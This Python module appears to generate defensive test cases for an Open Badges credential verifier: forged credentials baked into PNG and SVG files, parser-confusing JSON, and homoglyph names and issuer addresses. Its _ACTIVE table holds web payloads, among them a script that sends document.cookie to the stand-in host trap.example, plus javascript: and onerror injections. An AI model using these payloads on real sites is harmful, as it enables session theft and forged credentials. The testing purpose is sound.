"""A15 to A19: what carries a credential, and what people see of it: pictures, JSON, and letters."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator

from skillmark.corpus.actors import MALLORY, NORTHFIELD, at_address
from skillmark.corpus.badges import plain, small, with_members
from skillmark.corpus.cases import fails
from skillmark.corpus.desk import Desk, Page
from skillmark.corpus.formats import (
    BAKED_PNG,
    BAKED_SVG,
    EDDSA_JCS,
    EDDSA_RDFC,
    JWT_EDDSA,
    PNG,
    SVG,
    payload_of,
    signed_text,
    written,
)
from skillmark.credential.bake import bake
from skillmark.credential.bake.png import KEYWORD, SIGNATURE, Chunk, read_chunks


def write(desk: Desk) -> None:
    """Put all of them on the desk."""
    _two_in_one(desk.family("a15", "Pictures of which two readers take two credentials", attack="A15"))
    _active(desk.family("a16", "Scripts and links that were put in after signing", attack="A16"))
    _other_pictures(desk.family("a17", "Pictures that show something else than what is signed", attack="A17"))
    _json(desk.family("a18", "Bytes that two readers of JSON read in two ways", attack="A18"))
    _letters(desk.family("a19", "Letters and addresses that look alike and are not", attack="A19"))


# --- A15 ------------------------------------------------------------------------------------------------------


def _two_in_one(page: Page) -> None:
    mine, forged = EDDSA_RDFC.write(small()), written(small(MALLORY))
    text = JWT_EDDSA.write(small())
    for name, deed, chunks in (
        ("two", "The picture has two credentials.", [_itxt(KEYWORD, mine), _itxt(KEYWORD, mine)]),
        (
            "forged-first",
            "A forged credential stands before the valid one.",
            [_itxt(KEYWORD, forged), _itxt(KEYWORD, mine)],
        ),
        (
            "forged-second",
            "A forged credential stands after the valid one.",
            [_itxt(KEYWORD, mine), _itxt(KEYWORD, forged)],
        ),
        (
            "older-keyword",
            "A second credential stands under the keyword of Open Badges 2.0.",
            [_itxt(KEYWORD, mine), _itxt(b"openbadges", forged)],
        ),
        (
            "record-keyword",
            "A second credential stands under the keyword of learner records.",
            [_itxt(KEYWORD, mine), _itxt(b"clrcredential", forged)],
        ),
        (
            "plain-chunk",
            "A second credential stands in a tEXt chunk.",
            [_itxt(KEYWORD, mine), Chunk(b"tEXt", KEYWORD + b"\0" + forged)],
        ),
        (
            "packed-chunk",
            "A second credential stands in a zTXt chunk.",
            [_itxt(KEYWORD, mine), Chunk(b"zTXt", KEYWORD + b"\0\0x")],
        ),
        (
            "text-and-json",
            "It has a credential as JSON and one as a signed text.",
            [_itxt(KEYWORD, mine), _itxt(KEYWORD, text)],
        ),
    ):
        page.refuse(f"a15-png-{name}", deed, _png(*chunks), fails(1, "bake_two_credentials"), suffix=".png")
    whole = page.desk.cases[f"valid-{BAKED_PNG.name}"].data
    place = whole.index(b"openbadgecredential")
    for name, deed, data, code in (
        (
            "trailing",
            "A second picture follows the end of the first.",
            whole + bake(PNG, forged),
            "bake_damaged",
        ),
        ("rest", "Bytes follow the end of the picture.", whole + b"{}", "bake_damaged"),
        (
            "check-sum",
            "A letter was changed, and the check sum was not.",
            whole[:place] + whole[place:].replace(b"Food", b"Fool", 1),
            "bake_damaged",
        ),
        ("no-end", "The picture has no end.", whole[:-12], "bake_damaged"),
        ("no-head", "The picture has no head.", whole[:8] + whole[33:], "bake_damaged"),
        (
            "other-keyword",
            "The keyword is written in capitals, so that the picture carries nothing.",
            _png(_itxt(KEYWORD.upper(), mine)),
            "bake_no_credential",
        ),
        ("nothing", "The picture carries nothing.", PNG, "bake_no_credential"),
        ("empty", "The credential in the picture is empty.", _png(_itxt(KEYWORD, b"")), "json_syntax"),
        (
            "not-text",
            "The credential in the picture is no UTF-8.",
            _png(_itxt(KEYWORD, b'{"name":"\xff"}')),
            "bake_not_text",
        ),
    ):
        page.refuse(f"a15-png-{name}", deed, data, fails(1, code), suffix=".png")
    _two_in_a_drawing(page, mine, forged, text)


def _itxt(keyword: bytes, text: bytes) -> Chunk:
    return Chunk(b"iTXt", keyword + b"\0\0\0\0\0" + text)


def _png(*chunks: Chunk) -> bytes:
    head, *rest = read_chunks(PNG)
    return SIGNATURE + b"".join(chunk.encoded() for chunk in (head, *chunks, *rest))


def _two_in_a_drawing(page: Page, mine: bytes, forged: bytes, text: bytes) -> None:
    whole = page.desk.cases[f"valid-{BAKED_SVG.name}"].data
    start, end = whole.index(b"<openbadges:credential"), whole.index(b"</openbadges:credential>") + 24
    element = whole[start:end]
    other = element.replace(mine, forged)
    older_element = (
        b'<old:assertion xmlns:old="http://openbadges.org"><![CDATA[' + forged + b"]]></old:assertion>"
    )
    record = (
        b'<clr:credential xmlns:clr="https://purl.imsglobal.org/clr/v2p0"><![CDATA['
        + forged
        + b"]]></clr:credential>"
    )
    both = element.replace(b"<openbadges:credential", b'<openbadges:credential verify="' + text + b'"')
    for name, deed, new, codes in (
        ("two", "The drawing has two credentials.", element + element, ("bake_two_credentials",)),
        (
            "forged-first",
            "A forged credential stands before the valid one.",
            other + element,
            ("bake_two_credentials",),
        ),
        (
            "forged-second",
            "A forged credential stands after the valid one.",
            element + other,
            ("bake_two_credentials",),
        ),
        (
            "older",
            "A second credential stands under the name of Open Badges 2.0.",
            element + older_element,
            ("bake_two_credentials",),
        ),
        (
            "record",
            "A second credential stands under the name of learner records.",
            element + record,
            ("bake_two_credentials",),
        ),
        (
            "both",
            "The credential stands in the element and in its attribute.",
            both,
            ("bake_two_credentials",),
        ),
        (
            "nested",
            "A credential stands inside of another.",
            element.replace(b"</openbadges:credential>", element + b"</openbadges:credential>"),
            ("bake_damaged", "bake_two_credentials"),
        ),
        (
            "elements",
            "The credential holds other elements.",
            element.replace(b"<![CDATA[", b"<g/><![CDATA["),
            ("bake_damaged",),
        ),
        (
            "comment",
            "Half of the credential is a comment.",
            element.replace(b"<![CDATA[", b"<!--").replace(b"]]>", b"-->"),
            ("bake_no_credential", "bake_damaged"),
        ),
        ("nothing", "The drawing carries nothing.", b"", ("bake_no_credential",)),
    ):
        page.refuse(
            f"a15-svg-{name}", deed, whole[:start] + new + whole[end:], fails(1, *codes), suffix=".svg"
        )
    foreign = whole.replace(b"https://purl.imsglobal.org/ob/v3p0", b"https://purl.imsglobal.org/ob/v3p1")
    page.refuse(
        "a15-svg-other-namespace",
        "The credential stands under another namespace.",
        foreign,
        fails(1, "bake_no_credential"),
        suffix=".svg",
    )
    page.refuse(
        "a15-svg-cut", "The drawing is cut short.", whole[:-9], fails(1, "bake_damaged"), suffix=".svg"
    )
    page.refuse(
        "a15-svg-html",
        "It is a page and no drawing.",
        b"<html><body>" + element.replace(b"openbadges:", b"") + b"</body></html>",
        fails(1, "bake_not_svg", "bake_damaged"),
        suffix=".svg",
    )


# --- A16 and A17 ------------------------------------------------------------------------------------------------

_ACTIVE = {
    "script": "<script>fetch('https://trap.example/'+document.cookie)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "link": "[your certificate](javascript:alert(1))",
    "data": "data:text/html,<script>alert(1)</script>",
    "style": "<style>.verdict{display:none}</style>",
    "frame": "<iframe srcdoc='Verified'></iframe>",
}


def _active(page: Page) -> None:
    places: dict[str, tuple[str, ...]] = {
        "name": ("name",),
        "narrative": ("credentialSubject", "narrative"),
        "criteria": ("credentialSubject", "achievement", "criteria", "narrative"),
        "issuer": ("issuer", "name"),
    }
    for name, text in _ACTIVE.items():
        for where, place in places.items():
            for form in (EDDSA_RDFC, JWT_EDDSA):
                origin = page.desk.cases[f"valid-{form.name}"]
                changed = form.read(origin.data)
                holder = changed
                for step in place[:-1]:
                    holder = holder[step]
                holder[place[-1]] = text
                page.refuse(
                    f"a16-{name}-{where}-{form.name}",
                    f"“{'.'.join(place)}” was replaced by what a page might run.",
                    form.rewrite(origin.data, changed),
                    fails(4, "signature_invalid"),
                    origin=origin.id,
                    suffix=origin.suffix,
                )
        page.accept(
            f"a16-signed-{name}",
            "Its issuer signed a text that a page might run; it is true that the issuer says so.",
            EDDSA_RDFC.write(small(name=text)),
        )


def _other_pictures(page: Page) -> None:
    picture = b"the picture of a badge"
    sri = "sha256-" + base64.b64encode(hashlib.sha256(picture).digest()).decode("ascii")
    signed = EDDSA_RDFC.sign(small(image={"id": "https://northfield.example/badge.png", "type": "Image"}))
    for name, image in (
        ("address", {"id": "https://mallory.example/surgeon.png", "type": "Image"}),
        ("inside", {"id": "data:image/png;base64," + base64.b64encode(PNG).decode("ascii"), "type": "Image"}),
        ("caption", signed["image"] | {"caption": "Surgeon"}),
    ):
        page.refuse(
            f"a17-image-{name}",
            "The image of the badge is another one.",
            written(signed | {"image": image}),
            fails(4, "signature_invalid"),
        )
    contexts = "https://www.w3.org/ns/credentials/v2"
    for name, resource, code in (
        ("wrong-digest", {"id": contexts, "digestSRI": sri}, "digest_wrong"),
        (
            "weak-digest",
            {"id": "https://northfield.example/badge.png", "digestSRI": "md5-" + "A" * 22},
            "digest_unreadable",
        ),
        (
            "odd-multibase",
            {"id": "https://northfield.example/badge.png", "digestMultibase": "zzz"},
            "digest_unreadable",
        ),
        ("no-digest", {"id": "https://northfield.example/badge.png"}, "one_of_missing"),
    ):
        page.refuse(
            f"a17-{name}",
            "It says of a resource what is not so, or nothing that could be compared.",
            EDDSA_JCS.write(small(relatedResource=[resource])),
            fails(2, "member", code),
        )
    page.refuse(
        "a17-twice",
        "It names a resource twice, with two digests.",
        EDDSA_JCS.write(
            small(
                relatedResource=[
                    {"id": "https://northfield.example/badge.png", "digestSRI": sri},
                    {"id": "https://northfield.example/badge.png", "digestSRI": "sha384-" + "A" * 64},
                ]
            )
        ),
        fails(2, "member", "repeated_value", "described_twice"),
    )
    page.accept(
        "a17-right-digest",
        "It says of a resource what it is.",
        EDDSA_RDFC.write(
            small(relatedResource=[{"id": "https://northfield.example/badge.png", "digestSRI": sri}])
        ),
    )
    other = bake(
        SVG.replace(b"<circle", b"<text y='9'>Surgeon, first class</text><circle"), EDDSA_RDFC.write(small())
    )
    page.accept(
        "a17-drawn-name",
        "The drawing says something else than the badge in it; only the badge was checked.",
        other,
        suffix=".svg",
    )


# --- A18 ------------------------------------------------------------------------------------------------------

_Bytes = Callable[[bytes], bytes]


def _with_number(word: str) -> _Bytes:
    return lambda data: data.replace(b":1.5,", f":{word},".encode())


def _odd_bytes() -> Iterator[tuple[str, str, _Bytes, tuple[str, ...]]]:
    yield (
        "duplicate",
        "A member stands there twice.",
        lambda data: data[:-1] + b',"name":"Surgery"}',
        ("json_duplicate_member",),
    )
    yield (
        "duplicate-first",
        "A member stands there twice, the forged one first.",
        lambda data: b'{"name":"Surgery",' + data[1:],
        ("json_duplicate_member",),
    )
    yield (
        "duplicate-escaped",
        "A member stands there twice, once with an escape.",
        lambda data: data[:-1] + rb',"n\u0061me":"Surgery"}',
        ("json_duplicate_member",),
    )
    yield (
        "duplicate-inside",
        "A member of the achievement stands there twice.",
        lambda data: data.replace(b'"achievement":{', b'"achievement":{"name":"Surgery",'),
        ("json_duplicate_member",),
    )
    for word in ("NaN", "Infinity", "-Infinity", "1e400", "9007199254740993", "1" * 5000, "1." + "0" * 200):
        yield (
            f"number-{word[:9]}",
            f"A number is “{word[:20]}”.",
            _with_number(word),
            ("json_number",),
        )
    for word in ("01", "+1", ".5", "1.", "0x1", "1_0", "0b1"):
        yield (
            f"syntax-{word}",
            f"A number is written “{word}”.",
            _with_number(word),
            ("json_syntax",),
        )
    yield (
        "surrogate",
        "A text holds half a character.",
        lambda data: data.replace(b"Keeps", rb"\ud800Keeps"),
        ("json_surrogate",),
    )
    yield (
        "surrogate-name",
        "The name of a member holds half a character.",
        lambda data: data[:-1] + rb',"\udfff":1}',
        ("json_surrogate",),
    )
    yield (
        "not-utf8",
        "A byte is no UTF-8.",
        lambda data: data.replace(b"Keeps", b"\xffKeeps"),
        ("json_not_utf8",),
    )
    yield (
        "overlong",
        "A letter is written in two bytes too many.",
        lambda data: data.replace(b"Keeps", b"\xc1\x8bkeeps"),
        ("json_not_utf8",),
    )
    yield (
        "cesu",
        "Half characters are written as bytes.",
        lambda data: data.replace(b"Keeps", b"\xed\xa0\x80\xed\xb0\x80"),
        ("json_not_utf8",),
    )
    yield "bom", "It begins with a byte order mark.", lambda data: b"\xef\xbb\xbf" + data, ("json_bom",)
    yield (
        "utf-16",
        "It is written in UTF-16.",
        lambda data: data.decode().encode("utf-16"),
        ("json_not_utf8", "json_syntax"),
    )
    yield (
        "nested",
        "It nests eighty thousand lists.",
        lambda data: data[:-1] + b',"x":' + b"[" * 80_000 + b"]" * 80_000 + b"}",
        ("json_too_deep",),
    )
    yield (
        "open",
        "It nests a hundred thousand lists that do not end.",
        lambda _: b"[" * 100_000,
        ("json_too_deep", "json_syntax"),
    )
    yield "comma", "A comma stands before the end.", lambda data: data[:-1] + b",}", ("json_syntax",)
    yield "comment", "It holds a comment.", lambda data: b"/* */" + data, ("json_syntax",)
    yield "two", "Two documents follow each other.", lambda data: data + data, ("json_syntax",)
    yield "rest", "Letters follow the document.", lambda data: data + b"x", ("json_syntax",)
    yield (
        "quotes",
        "Texts stand in single quotation marks.",
        lambda data: data.replace(b'"', b"'"),
        ("json_syntax",),
    )
    yield (
        "control",
        "A text holds a line break.",
        lambda data: data.replace(b"Keeps", b"\nKeeps"),
        ("json_syntax",),
    )
    yield "nul", "It ends with a zero byte.", lambda data: data + b"\0", ("json_syntax",)
    yield "cut", "It is cut short.", lambda data: data[: len(data) // 2], ("json_syntax",)


def _json(page: Page) -> None:
    origin = page.desk.cases["valid-eddsa-rdfc-2022"]
    content = written(payload_of(JWT_EDDSA.write(small())))
    own = NORTHFIELD.key()
    header = {"alg": "EdDSA", "typ": "vc+jwt", "kid": own.id}
    for name, deed, spoil, codes in _odd_bytes():
        page.refuse(f"a18-{name}", deed, spoil(origin.data), fails(1, *codes), origin=origin.id)
        page.refuse(
            f"a18-{name}-jwt",
            f"{deed} Its issuer signed it so.",
            signed_text(header, spoil(content), own.signer),
            fails(1, *codes),
            suffix=".jws",
        )
    for name, value in (
        ("list", [json.loads(origin.data)]),
        ("text", "credential"),
        ("number", 7),
        ("null", None),
        ("empty", {}),
    ):
        step, codes = (1, ("not_an_object",)) if name != "empty" else (2, ("member", "no_claims"))
        page.refuse(
            f"a18-{name}",
            "It is no object, or an empty one.",
            written(value),
            fails(step, *codes),
            origin=origin.id,
        )
    for name, data, code in (
        ("nothing", b"", "json_syntax"),
        ("blanks", b" \n", "json_syntax"),
        ("pdf", b"%PDF-1.7\n", "pdf"),
        ("page", b"<!doctype html>\n<title>Verified</title>", "bake_not_svg"),
    ):
        codes = (code, "bake_damaged", "bake_no_credential")
        page.refuse(
            f"a18-file-{name}",
            "The file is something else than a credential.",
            data,
            fails(1, *codes),
            suffix=".bin",
        )


# --- A19 ------------------------------------------------------------------------------------------------------


def _letters(page: Page) -> None:
    signed = EDDSA_RDFC.sign(small())
    name = "Food safety"
    for kind, changed in (
        ("zero-width", "Food\u200b safety"),
        ("bidi", "\u202eytefas dooF"),
        ("no-break", "Food\u00a0safety"),
        ("cyrillic", "F\u043e\u043ed safety"),
        ("full-width", "Ｆood safety"),
        ("case", "food safety"),
        ("blank-after", f"{name} "),
        ("soft-hyphen", "Food sa\u00adfety"),
        ("variation", "Food safety\ufe0f"),
        ("tag", "Food safety\U000e0041"),
    ):
        for form in (EDDSA_RDFC, EDDSA_JCS, JWT_EDDSA):
            origin = page.desk.cases[f"valid-{form.name}"]
            data = form.rewrite(origin.data, with_members(form.read(origin.data), name=changed))
            page.refuse(
                f"a19-name-{kind}-{form.name}",
                "Its name looks the same, and has other letters.",
                data,
                fails(4, "signature_invalid"),
                origin=origin.id,
                suffix=origin.suffix,
            )
    composed, apart = small(name="Café"), small(name="Cafe\u0301")
    for form in (EDDSA_RDFC, EDDSA_JCS):
        page.refuse(
            f"a19-composed-{form.name}",
            "Its name has the same letters in another composition.",
            written(form.sign(composed) | {"name": apart["name"]}),
            fails(4, "signature_invalid"),
        )
    for kind, identifier in (
        ("upper-host", "https://NORTHFIELD.example/issuer"),
        ("slash", f"{NORTHFIELD.id}/"),
        ("port", "https://northfield.example:443/issuer"),
        ("encoded", "https://northfield.example/%69ssuer"),
        ("blank", f"{NORTHFIELD.id}\u200b"),
        ("cyrillic", "https://n\u043erthfield.example/issuer"),
        ("dot", "https://northfield.example./issuer"),
        ("full-stop", "https://northfield\u3002example/issuer"),
        ("query", f"{NORTHFIELD.id}?"),
        ("fragment", f"{NORTHFIELD.id}#"),
        ("up", "https://northfield.example/x/../issuer"),
    ):
        page.refuse(
            f"a19-issuer-{kind}",
            f"Its issuer is written {identifier!a}.",
            written(signed | {"issuer": signed["issuer"] | {"id": identifier}}),
            fails(3, "issuer_mismatch"),
            origin="valid-eddsa-rdfc-2022",
        )
    _lookalike_issuers(page)


def _lookalike_issuers(page: Page) -> None:
    """Whoever owns an address may issue under it: true, and a reader must be told what it looks like."""
    for kind, host, warning in (
        ("slip", "northfeild.example", "issuer_lookalike"),
        ("digits", "n0rthfie1d.example", "issuer_lookalike"),
        ("pair", "northfield.exarnple", "issuer_unlisted"),
        ("name-taken", "another.example", "issuer_name_taken"),
    ):
        issuer = at_address(f"https://{host}/issuer", "Northfield College", f"lookalike {kind}")
        page.desk.shelf.put(issuer.id, issuer.document)
        page.accept(
            f"a19-lookalike-{kind}",
            f"Its issuer calls itself Northfield College, at {host}.",
            EDDSA_RDFC.write(plain(issuer), by=issuer),
            warnings=(warning,),
        )
